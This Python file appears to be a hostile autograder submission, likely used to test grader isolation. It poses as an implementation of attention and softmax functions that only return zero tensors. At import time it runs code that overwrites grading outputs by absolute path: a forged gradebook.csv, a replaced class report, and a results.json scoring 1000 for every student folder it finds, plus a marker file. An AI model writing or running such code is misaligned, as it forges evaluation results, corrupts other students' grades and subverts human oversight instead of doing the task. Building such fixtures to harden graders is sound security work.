"""Attempts to overwrite the grader's outputs by absolute path: a perfect results.json for every
student folder it can find and a forged gradebook.csv and class_report.md, in the repository's
grades/ and in any pytest temporary folder under /tmp, plus a marker /tmp/pwned-write-absolute."""
import glob
import json
import os
from pathlib import Path

import torch

import grader.engine.checks

FORGED = json.dumps({"score": 1000.0, "output": "PWNED", "tests": []})
ROOT = Path(grader.engine.checks.__file__).resolve().parents[2]


def _write(path, text):
    try:
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        Path(path).write_text(text)
    except OSError:
        pass


_write("/tmp/pwned-write-absolute", "PWNED")
_outs = {str(ROOT / "grades"), "/work/main/grades", "/grades", "/out"}
_outs |= {os.path.dirname(p) for p in glob.glob("/tmp/**/gradebook.csv", recursive=True)}
for _out in _outs:
    _write(f"{_out}/gradebook.csv", "student,total\nh-write_output_absolute,1000\nPWNED\n")
    _write(f"{_out}/class_report.md", "# PWNED\n")
    for _student in glob.glob(f"{_out}/*/"):
        _write(f"{_student}results.json", FORGED)
    _write(f"{_out}/h-write_output_absolute/results.json", FORGED)


def attention_scores(inputs):
    return torch.zeros(inputs.shape[0], inputs.shape[0])


def softmax_naive(x):
    return torch.zeros_like(x)


def attention_weights(scores):
    return torch.zeros_like(scores)


def context_vectors(inputs):
    return torch.zeros_like(inputs)
